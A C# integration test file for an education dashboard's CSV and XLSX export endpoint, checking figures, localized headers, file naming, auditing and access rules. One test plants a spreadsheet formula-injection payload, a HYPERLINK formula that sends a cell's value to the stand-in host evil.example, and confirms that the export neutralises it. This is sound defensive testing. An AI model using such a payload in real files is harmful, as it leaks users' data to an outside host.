using System.Globalization;
using System.IO.Compression;
using System.Text;
using System.Text.Json;
using EduInfo.Grains.Interfaces.Localization;
using EduInfo.IntegrationTests.Infrastructure;
using MiniExcelLibs;

namespace EduInfo.IntegrationTests.Api;

/// <summary>
/// The dashboard's export through HTTP: its figures are the summary's and the children's for the same filter, in CSV
/// and XLSX; localized headers; a hostile registry name is written as text; the summary's access rule; audited.
/// </summary>
public sealed class ExportTests : IClassFixture<ApiHost>
{
    private const string Hostile = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    private readonly ApiHost api;
    private readonly DemoRegistry.Teaching t;
    private readonly (string Class, string Organization, string District, string Region) place;

    public ExportTests(ApiHost api)
    {
        this.api = api;
        t = api.Registry.InSchoolClass(0);
        var organization = api.Registry.Data.Classes.Single(c => c.Id == t.ClassId).OrganizationId;
        var district = api.Registry.Data.Organizations.Single(o => o.Id == organization).NodeId;
        place = (t.ClassId, organization, district, api.Registry.Data.Nodes.Single(n => n.Id == district).ParentId!);
        // A hostile import's name, planted before this host's node directory has read (and cached) the organization.
        api.Db.ExecuteAsync("UPDATE organizations SET name_kk = @n, name_ru = @n, name_en = @n WHERE id = @o", ("n", Hostile), ("o", organization))
            .GetAwaiter().GetResult();
    }

    private static readonly string[] Columns =
    [
        "id", "name", "kind", "students", "classes", "successRate", "knowledgeQuality", "averageMark", "attendanceRate", "completeness",
        "marks2", "marks3", "marks4", "marks5", "notAttested", "late", "absentUnexcused", "absentExcused", "absentSick",
    ];

    [Fact]
    public async Task The_csv_and_the_xlsx_hold_the_summary_s_and_the_children_s_figures_for_the_same_filter()
    {
        await PostJournalAsync();
        foreach (var (metric, percent) in new[] { ("attendanceRate", 95), ("successRate", 90) })
        {
            Assert.Equal(204, (await api.Http.SendJsonAsync(HttpMethod.Put, $"/api/v1/nodes/{place.District}/targets/{metric}", new { targetPercent = percent })).Status);
        }

        foreach (var node in new[] { place.District, place.Organization, place.Class })
        {
            foreach (var filter in new[] { "", "term=2", $"term=2&subjectId={t.SubjectId}" })
            {
                var summary = (await api.Http.GetJsonAsync($"/api/v1/nodes/{node}/summary?lang=ru&{filter}")).Body;
                var children = (await api.Http.GetJsonAsync($"/api/v1/nodes/{node}/children?lang=ru&{filter}")).Body.EnumerateArray().ToList();
                var expectedTargets = summary.GetProperty("targets").EnumerateArray().Select(ExpectedTarget).ToList();
                Assert.Equal(node == place.District ? 2 : 0, expectedTargets.Count);
                foreach (var format in new[] { "csv", "xlsx" })
                {
                    var tables = await ExportAsync($"/api/v1/nodes/{node}/export?format={format}&lang=ru&{filter}");
                    var rows = tables[0].Rows;
                    var because = $"{node} {filter} {format}";
                    Assert.True(Expected(summary).SequenceEqual(rows[0]), $"{because}: the node's row {string.Join("|", rows[0])}");
                    Assert.Equal(children.Count, rows.Count - 1);
                    foreach (var child in children)
                    {
                        var row = rows.Single(r => (string?)r[0] == child.GetProperty("nodeId").GetString());
                        Assert.True(Expected(child).SequenceEqual(row), $"{because}: {string.Join("|", row)}");
                    }
                    Assert.Equal(expectedTargets.Count == 0 ? 1 : 2, tables.Count);
                    for (var i = 0; i < expectedTargets.Count; i++)
                    {
                        Assert.True(expectedTargets[i].SequenceEqual(tables[1].Rows[i]), $"{because}: target {string.Join("|", tables[1].Rows[i])}");
                    }
                    Assert.Equal(expectedTargets.Count, tables.Count == 2 ? tables[1].Rows.Count : 0);
                }
            }
        }
        // The figures were not all zero: the filters' cells hold the posted marks and the roll-call.
        var cell = (await ExportAsync($"/api/v1/nodes/{place.Class}/export?term=2&subjectId={t.SubjectId}"))[0].Rows[0];
        Assert.Equal((1m, 0m, 2m, 3m), ((decimal?)cell[10], (decimal?)cell[11], (decimal?)cell[12], (decimal?)cell[13]));
        var year = (await ExportAsync($"/api/v1/nodes/{place.District}/export"))[0].Rows[0];
        Assert.Equal((1m, 2m, 3m, 4m), ((decimal?)year[15], (decimal?)year[16], (decimal?)year[17], (decimal?)year[18]));
    }

    [Theory]
    [InlineData("kk", null, "Атауы")]
    [InlineData("ru", null, "Наименование")]
    [InlineData("en", null, "Name")]
    [InlineData(null, "ru", "Наименование")]
    [InlineData("xx-junk", "en", "Name")]
    public async Task The_header_row_is_in_the_reader_s_language(string? lang, string? acceptLanguage, string nameColumn)
    {
        var language = lang is "kk" or "ru" or "en" ? lang : acceptLanguage!;
        var expected = Columns.Select(c => Messages.Get($"export.column.{c}", language)).ToList();
        foreach (var format in new[] { "csv", "xlsx" })
        {
            var tables = await ExportAsync($"/api/v1/nodes/{place.Class}/export?format={format}" + (lang is null ? "" : $"&lang={lang}"), acceptLanguage: acceptLanguage);
            Assert.Equal(expected, tables[0].Header);
            Assert.Equal(nameColumn, tables[0].Header[1]);
            Assert.Equal(Messages.Get("kind.Class", language), tables[0].Rows[0][2]);
        }
    }

    [Fact]
    public async Task A_registry_name_that_is_a_formula_is_written_as_text()
    {
        foreach (var node in new[] { place.District, place.Organization })
        {
            var csv = await DownloadAsync($"/api/v1/nodes/{node}/export?format=csv");
            var text = Encoding.UTF8.GetString(csv.Body);
            // Quoted (it holds commas and quotes), its quotes doubled, and an apostrophe before the '='.
            Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",", text, StringComparison.Ordinal);
            Assert.DoesNotContain(",=HYPERLINK", text, StringComparison.Ordinal);
            Assert.DoesNotContain(",\"=HYPERLINK", text, StringComparison.Ordinal);

            var xlsx = await DownloadAsync($"/api/v1/nodes/{node}/export?format=xlsx");
            var names = ParseXlsx(xlsx.Body)[0].Rows.Select(r => r[1]).ToList();
            Assert.Contains("'" + Hostile, names);
            Assert.DoesNotContain(Hostile, names);
            using var zip = new ZipArchive(new MemoryStream(xlsx.Body));
            Assert.All(zip.Entries.Where(e => e.FullName.EndsWith(".xml", StringComparison.Ordinal)),
                e => Assert.DoesNotMatch(@"<(\w+:)?f[\s>/]", new StreamReader(e.Open()).ReadToEnd())); // no formula element anywhere
        }
    }

    [Fact]
    public async Task The_file_is_an_attachment_named_by_ids_and_date_not_cached_and_the_export_is_audited()
    {
        var officer = $"user=export-officer; roles=district_officer@{place.District}";
        var download = await DownloadAsync($"/api/v1/nodes/{place.District}/export?format=xlsx&term=2&subjectId={t.SubjectId}", officer);
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", download.ContentType);
        Assert.Equal("attachment", download.Disposition!.DispositionType);
        Assert.Equal($"eduinfo-{place.District}-term2-{t.SubjectId}-{TestClock.Today:yyyy-MM-dd}.xlsx", download.Disposition.FileNameStar ?? download.Disposition.FileName);
        Assert.True(download.CacheControl!.NoStore);
        var csv = await DownloadAsync($"/api/v1/nodes/{place.Class}/export", officer);
        Assert.Equal(("text/csv", "utf-8"), (csv.ContentType, csv.Charset));
        Assert.Equal($"eduinfo-{place.Class}-year-all-{TestClock.Today:yyyy-MM-dd}.csv", csv.Disposition!.FileNameStar ?? csv.Disposition.FileName);

        var audited = await api.Db.ScalarAsync<string>("""
            SELECT string_agg(target_id || ' ' || coalesce(organization_id, '-') || ' ' || outcome || ' ' || (detail->>'format') || ' '
                              || coalesce(detail->>'term', '-') || ' ' || coalesce(detail->>'subjectId', '-'), '; ' ORDER BY id)
            FROM audit_log WHERE action = 'node.export' AND target_kind = 'node' AND actor_id = 'export-officer'
            """);
        Assert.Equal($"{place.District} - ok xlsx 2 {t.SubjectId}; {place.Class} {place.Organization} ok csv - -", audited);
    }

    [Fact]
    public async Task The_summary_s_rule_decides_who_exports_and_refusals_are_problems()
    {
        var otherDistrict = api.Registry.Data.Nodes.First(n => n.Kind == "district" && n.Id != place.District).Id;
        var otherRegion = api.Registry.Data.Nodes.First(n => n.Kind == "region" && n.Id != place.Region).Id;
        var path = $"/api/v1/nodes/{place.District}/export?format=csv";
        var before = await api.Db.ScalarAsync<long>("SELECT count(*) FROM audit_log WHERE action = 'node.export'");

        Assert.Equal(401, (await api.Http.GetJsonAsync(path, actor: null)).Status);
        Assert.Equal(403, (await api.Http.GetJsonAsync(path, $"user=do; roles=district_officer@{otherDistrict}")).Status);
        Assert.Equal(403, (await api.Http.GetJsonAsync(path, $"user=ro; roles=region_officer@{otherRegion}")).Status);
        Assert.Equal(403, (await api.Http.GetJsonAsync(path, $"user=hd; roles=head@{place.Organization}")).Status); // the district is above the school
        var parent = api.Registry.Data.StudentParents.First(p => p.StudentId == t.Roster[0]).ParentId;
        var refused = await api.Http.GetJsonAsync(path, $"user=p; person={parent}; roles=parent@{parent}", acceptLanguage: "ru");
        Assert.Equal((403, "application/problem+json"), (refused.Status, refused.ContentType));
        Assert.Equal(before, await api.Db.ScalarAsync<long>("SELECT count(*) FROM audit_log WHERE action = 'node.export'"));

        Assert.Equal(200, (await api.Http.GetJsonAsync(path, $"user=ro-in; roles=region_officer@{place.Region}")).Status);
        Assert.Equal(404, (await api.Http.GetJsonAsync("/api/v1/nodes/NO-SUCH-NODE/export")).Status);
        var format = await api.Http.GetJsonAsync($"/api/v1/nodes/{place.District}/export?format=pdf", acceptLanguage: "kk");
        Assert.Equal(400, format.Status);
        Assert.Equal(("format", "formatUnknown", "Пішім csv немесе xlsx болуы керек."),
            (format.Body.GetProperty("errors")[0].GetProperty("field").GetString(), format.Body.GetProperty("errors")[0].GetProperty("code").GetString(),
             format.Body.GetProperty("errors")[0].GetProperty("message").GetString()));
        Assert.Equal(400, (await api.Http.GetJsonAsync($"/api/v1/nodes/{place.District}/export?year=1999-2000")).Status);
    }

    /// <summary>
    /// Marks of term 2 (projected term marks 4, 5, 2, 4, 5, 5 and one pending: 2 ×1, 4 ×2, 5 ×3) and two roll-calls with
    /// absences of every code, counted differently (late 1, unexcused 2, excused 3, sick 4), so no two columns agree by chance.
    /// </summary>
    private async Task PostJournalAsync()
    {
        Assert.True(t.Roster.Length >= 7, "the class has seven students");
        object Mark(int student, string kind, int score, int? maxScore = null, string date = "2026-11-18") =>
            new { entryId = Guid.NewGuid(), studentId = t.Roster[student], subjectId = t.SubjectId, date, kind, score, maxScore };
        object[] Full(int student) => [Mark(student, "formative", 10, date: "2026-11-16"), Mark(student, "section", 20, 20), Mark(student, "term", 25, 25, "2026-11-20")];
        var teacher = $"user={t.TeacherId}; roles=teacher";
        var marks = await api.Http.PostJsonAsync($"/api/v1/classes/{t.ClassId}/marks", new
        {
            entries = new[]
            {
                Mark(0, "formative", 8, date: "2026-11-16"), Mark(0, "section", 15, 20), Mark(0, "term", 18, 25, "2026-11-20"),
                Mark(2, "formative", 3, date: "2026-11-16"), Mark(2, "section", 5, 20), Mark(2, "term", 10, 25, "2026-11-20"),
                Mark(3, "formative", 7, date: "2026-11-16"),
                Mark(5, "formative", 7, date: "2026-11-16"), Mark(5, "section", 12, 20), Mark(5, "term", 16, 25, "2026-11-20"),
            }.Concat(Full(1)).Concat(Full(4)).Concat(Full(6)).ToArray(),
        }, teacher);
        Assert.True(marks.Status == 200, $"{marks.Status} {marks.Body}");
        object Lesson(int period, params (string Code, int Student)[] absentees) => new
        {
            entryId = Guid.NewGuid(), subjectId = t.SubjectId, date = "2026-11-19", period,
            absentees = absentees.Select(a => new { studentId = t.Roster[a.Student], code = a.Code }).ToArray(),
        };
        var lessons = await api.Http.PostJsonAsync($"/api/v1/classes/{t.ClassId}/lessons", new
        {
            entries = new[]
            {
                Lesson(2, ("late", 0), ("unexcused", 1), ("unexcused", 2), ("excused", 3), ("excused", 4), ("excused", 5), ("sick", 6)),
                Lesson(3, ("sick", 0), ("sick", 1), ("sick", 2)),
            },
        }, teacher);
        Assert.True(lessons.Status == 200, $"{lessons.Status} {lessons.Body}");
        // The republic is the last to hear: once it has them all, every node on the way has them too.
        await Eventually.MatchesAsync(() => api.Http.GetJsonAsync("/api/v1/nodes/KZ/summary"),
            r => r.Body.GetProperty("figures") is var f && f.GetProperty("marks").GetInt64() == 19 && f.GetProperty("lessonsHeld").GetInt64() == 2,
            TimeSpan.FromSeconds(30), "the marks and the roll-calls reach the republic");
    }

    /// <summary>A summary as the export writes it: the name made inert, percentages with one decimal, counts as they are.</summary>
    private static List<object?> Expected(JsonElement s)
    {
        decimal? Rate(string name, int decimals) =>
            s.GetProperty("rates").GetProperty(name) is { ValueKind: JsonValueKind.Number } v ? Math.Round(v.GetDecimal(), decimals, MidpointRounding.AwayFromZero) : null;
        decimal Figure(string name) => s.GetProperty("figures").GetProperty(name).GetInt64();
        var name = s.GetProperty("name").GetString()!;
        return
        [
            s.GetProperty("nodeId").GetString(), name.StartsWith('=') ? "'" + name : name, s.GetProperty("kindName").GetString(),
            Figure("students"), Figure("classes"), Rate("successRate", 1), Rate("knowledgeQuality", 1), Rate("averageTermMark", 2),
            Rate("attendanceRate", 1), Rate("completeness", 1), Figure("termMarks2"), Figure("termMarks3"), Figure("termMarks4"), Figure("termMarks5"),
            Figure("notAttested"), Figure("late"), Figure("absentUnexcused"), Figure("absentExcused"), Figure("absentSick"),
        ];
    }

    private static List<object?> ExpectedTarget(JsonElement target)
    {
        decimal? Shown(string name) => target.GetProperty(name) is { ValueKind: JsonValueKind.Number } v ? Math.Round(v.GetDecimal(), 1, MidpointRounding.AwayFromZero) : null;
        return [Messages.Get($"metric.{target.GetProperty("metric").GetString()}", "ru"), target.GetProperty("target").GetDecimal(), Shown("actual"), Shown("gap")];
    }

    private sealed record Table(IReadOnlyList<string> Header, IReadOnlyList<IReadOnlyList<object?>> Rows);

    private sealed record Download(byte[] Body, string? ContentType, string? Charset,
        System.Net.Http.Headers.ContentDispositionHeaderValue? Disposition, System.Net.Http.Headers.CacheControlHeaderValue? CacheControl);

    private async Task<Download> DownloadAsync(string path, string? actor = HttpExtensions.Analyst, string? acceptLanguage = null)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, path);
        if (actor is not null)
        {
            request.Headers.Add(HttpExtensions.ActorHeader, actor);
        }
        if (acceptLanguage is not null)
        {
            request.Headers.AcceptLanguage.ParseAdd(acceptLanguage);
        }
        using var response = await api.Http.SendAsync(request);
        var body = await response.Content.ReadAsByteArrayAsync();
        Assert.True((int)response.StatusCode == 200, $"{path}: {(int)response.StatusCode} {Encoding.UTF8.GetString(body)}");
        var headers = response.Content.Headers;
        return new Download(body, headers.ContentType?.MediaType, headers.ContentType?.CharSet, headers.ContentDisposition, response.Headers.CacheControl);
    }

    /// <summary>The tables of an export, whichever its format: texts as strings, numbers as decimals, empty cells as null.</summary>
    private async Task<IReadOnlyList<Table>> ExportAsync(string path, string? acceptLanguage = null)
    {
        var download = await DownloadAsync(path, acceptLanguage: acceptLanguage);
        return download.ContentType == "text/csv" ? ParseCsv(download.Body) : ParseXlsx(download.Body);
    }

    private static List<Table> ParseCsv(byte[] body)
    {
        Assert.Equal(Encoding.UTF8.GetPreamble(), body[..3]);
        // Tables follow one another with an empty line between them; the first three columns of the figures are texts.
        var blocks = new List<List<List<string>>> { new() };
        foreach (var record in CsvRecords(Encoding.UTF8.GetString(body[3..])))
        {
            if (record is [""])
            {
                blocks.Add([]);
            }
            else
            {
                blocks[^1].Add(record);
            }
        }
        return [.. blocks.Select((block, b) => new Table(block[0], [.. block.Skip(1).Select(r => r.Select((cell, i) => i < (b == 0 ? 3 : 1) ? cell : Number(cell)).ToList())]))];
    }

    private static object? Number(string cell) => cell.Length == 0 ? null : decimal.Parse(cell, NumberStyles.Float, CultureInfo.InvariantCulture);

    /// <summary>RFC 4180 records: quoted fields may hold commas, doubled quotes and line breaks; records end with CRLF.</summary>
    internal static List<List<string>> CsvRecords(string text)
    {
        var (records, record, field, quoted) = (new List<List<string>>(), new List<string>(), new StringBuilder(), false);
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c != '"')
                {
                    field.Append(c);
                }
                else if (i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else
                {
                    quoted = false;
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                record.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                record.Add(field.ToString());
                field.Clear();
                records.Add(record);
                record = [];
                i++;
            }
            else
            {
                Assert.False(c is '\r' or '\n', $"a bare line break outside a quoted field at {i}");
                field.Append(c);
            }
        }
        Assert.Empty(record);
        return records;
    }

    private static List<Table> ParseXlsx(byte[] body) =>
        [.. MiniExcel.GetSheetNames(new MemoryStream(body)).Select(sheet =>
        {
            var rows = MiniExcel.Query(new MemoryStream(body), useHeaderRow: true, sheetName: sheet).Cast<IDictionary<string, object?>>().ToList();
            var header = MiniExcel.GetColumns(new MemoryStream(body), useHeaderRow: true, sheetName: sheet).ToList();
            return new Table(header, [.. rows.Select(r => header.Select(h => r[h] switch
            {
                null => null,
                string s => (object?)s,
                var n => Convert.ToDecimal(n, CultureInfo.InvariantCulture),
            }).ToList())]);
        })];
}
